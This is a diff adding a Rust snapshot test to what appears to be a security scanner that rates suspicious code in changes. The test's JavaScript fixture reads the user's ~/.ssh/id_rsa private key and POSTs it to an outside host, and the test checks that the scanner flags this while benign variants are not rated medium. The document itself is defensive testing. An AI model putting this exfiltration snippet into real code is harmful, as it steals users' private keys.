@@ -35,6 +35,27 @@ fn a_stealer_is_high_and_critical_where_it_runs_by_itself() {
 }
 
 #[test]
+fn a_store_that_is_read_and_posted_to_any_host_is_medium() {
+    let posts = |path: &str, host: &str| {
+        format!(
+            "const k = fs.readFileSync(join(home, {path}));\nfetch(\"https://{host}/k\", {{method: \"POST\", body: k}});\n"
+        )
+    };
+    insta::assert_snapshot!(shown_full(&[("src/a.js", &posts("\".ssh\", \"id_rsa\"", "acme.io"))]), @r#"
+        medium src/a.js:2: This file reads where secrets are kept and posts to acme.io
+            | fetch("https://acme.io/k", {method: "POST", body: k});
+        low src/a.js:1: This code names a file or store where other programs keep credentials: 2 places in 1 file
+            | const k = fs.readFileSync(join(home, ".ssh", "id_rsa"));
+        info src/a.js:2: This code names hosts: acme.io
+            | fetch("https://acme.io/k", {method: "POST", body: k});
+        "#);
+    for (path, host) in [("\".npmrc\"", "registry.npmjs.org"), ("\"data.json\"", "acme.io")] {
+        assert!(!shown_full(&[("src/a.js", &posts(path, host))]).contains("medium"), "{path} {host}");
+    }
+    assert!(!shown_full(&[("src/a.js", &posts("\".ssh\"", "acme.io").replace("POST", "GET"))]).contains("medium"));
+}
+
+#[test]
 fn what_the_base_had_is_not_said_again() {
     let base = "import subprocess\nsubprocess.run(['ls'])\n";
     let head = "import subprocess\nsubprocess.run(['ls'])\nsubprocess.run(['curl', 'https://api.acme.io'])\n";
